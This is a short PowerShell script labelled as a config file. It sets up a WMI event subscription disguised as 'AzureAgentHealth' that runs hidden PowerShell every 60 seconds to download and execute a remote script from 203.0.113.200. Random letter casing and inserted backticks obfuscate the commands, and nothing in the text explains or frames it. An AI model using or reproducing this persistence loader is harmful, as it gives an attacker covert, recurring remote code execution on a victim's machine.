# cOnFiG 1311 v1
$filteR = seT-Wm`IiN`stAN`Ce -NaMeSPace ROOT\sUbScRiPtIoN -CLAss __eVENTfILter -aRgUmEnTs @{nAmE='AzureAgentHealth';EvEnTNAMeSPAcE='root\cimv2';QUeryLAngUAGe='WQL';queRy="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$COnsumEr = sET-`W`M`i`InSTaN`ce -nAmEsPaCe RooT\SubscrIpTIoN -ClAsS cOMmANdlIneeVentconSUMeR -argumEnts @{NAME='AzureAgentHealth';CoMmAnDlInEtEmPlAtE="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"}
set-W`m`iINsTanCe -NameSPace ROoT\suBscrIPTION -cLass __FiLTeRtOconSumerBInding -ArguMENtS @{filTeR=$FiLtEr;conSUmER=$ConSumEr}
